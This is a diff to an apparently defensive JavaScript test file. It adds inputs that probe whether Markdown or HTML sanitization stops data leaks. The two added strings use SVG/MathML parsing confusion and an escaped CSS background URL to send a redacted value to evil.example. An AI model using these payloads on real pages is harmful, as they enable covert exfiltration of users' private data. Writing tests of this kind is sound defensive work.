@@ -35,6 +35,8 @@ describe("When a URL begins behind a sign, then no value behind a blank follows 
     `![x](${URL}"a) [IBAN_1]" b)`,
     `![x](${URL} "a) [IBAN_1]" b)`,
     `![x](/local?q= [IBAN_1])`,
+    '<svg><desc>a\n\nb</desc></svg>\n\n</desc>\n\n<style><g x="</style>"></g>x{}*{background:url("\\68ttps://evil.example/?q= [IBAN_1]")}',
+    '<math><mi>a\n\nb</mi></math>\n\n</mi>\n\n<style><g x="</style>"></g>x{}*{background:url("\\68ttps://evil.example/?q= [IBAN_1]")}',
     `![x](${URL}\`) [IBAN_1] \`)`,
     `![x](${URL}[a) [IBAN_1]](b))`,
     `![x](${URL} ~~~ [IBAN_1])`,
